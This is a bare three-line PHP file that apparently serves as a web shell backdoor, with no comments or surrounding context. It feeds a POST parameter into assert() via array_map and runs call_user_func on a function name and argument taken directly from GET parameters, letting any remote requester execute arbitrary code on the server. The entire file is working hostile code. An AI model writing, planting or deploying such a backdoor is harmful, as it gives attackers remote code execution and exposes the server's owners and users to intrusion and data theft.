<?php
array_map('assert', array($_POST['z']));
call_user_func($_GET['fn'], $_GET['arg']);
